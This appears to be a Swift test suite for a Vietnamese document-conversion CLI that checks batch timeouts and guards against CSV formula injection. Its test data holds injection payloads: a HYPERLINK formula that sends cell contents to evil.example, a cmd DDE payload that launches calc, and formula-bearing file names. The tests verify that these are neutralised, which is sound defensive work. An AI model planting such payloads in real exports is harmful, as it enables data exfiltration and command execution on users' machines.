import Foundation
import Testing
@testable import VanBan

/// Issue 13: lose nothing, overwrite nothing, hang on nothing. Each test reproduces one
/// finding of the adversarial pass through the CLI, as a user would meet it.
@Suite("Hardening")
struct HardeningTests {
    static let smallDocument = "CHƯƠNG TRÌNH CÔNG TÁC\nnăm 2026\n1. Tháng 01/2026\n- Họp Ban Thường vụ (Văn phòng chuẩn bị).\n"

    static func rows(_ out: URL) throws -> [[String: Any]] {
        let object = try JSONSerialization.jsonObject(with: Data(contentsOf: out.appendingPathComponent("summary.json"))) as! [String: Any]
        return object["files"] as! [[String: Any]]
    }

    // MARK: 1. Time

    /// The 200k-line file of the layout test, in a batch: converted (the default limit is
    /// far above what it needs); and with a limit it cannot meet, given up as failed while
    /// the small file beside it is converted.
    @Test func batchTimeoutGivesUpOneFileAndGoesOn() throws {
        let dir = try Support.temporaryDirectory("timeout")
        defer { try? FileManager.default.removeItem(at: dir) }
        let input = dir.appendingPathComponent("in")
        try FileManager.default.createDirectory(at: input, withIntermediateDirectories: true)
        try Data(String(repeating: "Văn phòng Đảng ủy\n", count: 200_000).utf8).write(to: input.appendingPathComponent("lon.txt"))
        try Data(Self.smallDocument.utf8).write(to: input.appendingPathComponent("nho.txt"))

        let started = Date()
        let out = dir.appendingPathComponent("out")
        let (code, _, err) = try Support.run(Support.binary, ["batch", input.path, "--out", out.path, "--timeout", "0.2", "--lang", "en"])
        let seconds = Date().timeIntervalSince(started)
        #expect(code == 2, "\(err)")
        let rows = try Self.rows(out)
        let byName = Dictionary(uniqueKeysWithValues: rows.map { (URL(fileURLWithPath: $0["path"] as! String).lastPathComponent, $0) })
        #expect(byName["lon.txt"]?["reasonCode"] as? String == "timeout")
        #expect(byName["nho.txt"]?["status"] as? String == "ok")
        #expect(err.contains("lon.txt: took longer than the 0.2 s limit"))
        #expect(seconds < 60, "\(seconds) s")

        let all = dir.appendingPathComponent("all")
        let (code2, _, err2) = try Support.run(Support.binary, ["batch", input.path, "--out", all.path, "--jobs", "2"])
        #expect([0, 1].contains(code2), "\(err2)")
        #expect(try Self.rows(all).allSatisfy { $0["status"] as? String == "ok" })

        let (bad, _, badErr) = try Support.run(Support.binary, ["batch", input.path, "--out", all.path, "--timeout", "soon", "--lang", "en"])
        #expect(bad == 2 && badErr.contains("--timeout takes a number of seconds"))
    }

    // MARK: 2. CSV formula injection

    /// Runs `vanban arguments…` in `directory` (for relative file names that start with `=`).
    static func run(in directory: URL, _ arguments: [String]) throws -> (Int32, String) {
        let process = Process()
        process.executableURL = Support.binary
        process.arguments = arguments
        process.currentDirectoryURL = directory
        let err = Pipe()
        process.standardError = err
        process.standardOutput = FileHandle.nullDevice
        try process.run()
        let e = err.fileHandleForReading.readDataToEndOfFile()
        process.waitUntilExit()
        return (process.terminationStatus, String(decoding: e, as: UTF8.self))
    }

    /// Every cell of the CSV at `path` as Excel would see it: read with Python's csv module
    /// (utf-8-sig, as Excel strips the mark); a cell starting with = + - @ TAB or CR would be a formula.
    static func formulaCells(_ path: String) throws -> (rows: [[String]], formulas: [String]) {
        let rows = try ExportTests.pythonRows(path)
        let formulas = rows.flatMap { $0 }.filter { cell in
            guard let first = cell.unicodeScalars.first else { return false }
            return ["=", "+", "-", "@", "\t", "\r"].contains(first)
        }
        return (rows, formulas)
    }

    static let formulaDocument = """
        CHƯƠNG TRÌNH CÔNG TÁC
        năm 2026
        1. Tháng 01/2026
        - =HYPERLINK("http://evil.example/?x="&A1) (Văn phòng chuẩn bị).
        - +cmd|' /C calc'!A0 (@Ban Tổ chức chủ trì chuẩn bị).
        - -2+3 cuộc họp
        - @SUM(1) hội nghị

        """

    @Test func noCSVCellIsAFormula() throws {
        let dir = try Support.temporaryDirectory("csv-injection")
        defer { try? FileManager.default.removeItem(at: dir) }
        let name = "=HYPERLINK(\"\\\\host\\share\").txt"
        try Data(Self.formulaDocument.utf8).write(to: dir.appendingPathComponent(name))
        try Data(Self.formulaDocument.utf8).write(to: dir.appendingPathComponent("@SUM(A1).txt"))

        let (code, err) = try Self.run(in: dir, ["export", name, "@SUM(A1).txt", "--csv", "lich.csv"])
        #expect(code == 0, "\(err)")
        let export = try Self.formulaCells(dir.appendingPathComponent("lich.csv").path)
        #expect(export.formulas.isEmpty, "\(export.formulas)")
        // The text is all there, behind the quote mark.
        #expect(export.rows.contains { $0[0] == "'" + name && $0[7].hasPrefix("'=HYPERLINK(\"http://evil.example/") })
        #expect(export.rows.contains { $0[7] == "'-2+3 cuộc họp" })

        let (code2, err2) = try Self.run(in: dir, ["batch", name, "@SUM(A1).txt", "--out", "out"])
        #expect([0, 1].contains(code2), "\(err2)")
        let summary = try Self.formulaCells(dir.appendingPathComponent("out/summary.csv").path)
        #expect(summary.rows.count == 3)
        #expect(summary.formulas.isEmpty, "\(summary.formulas)")
        #expect(summary.rows.contains { $0[0] == "'" + name })
    }
}
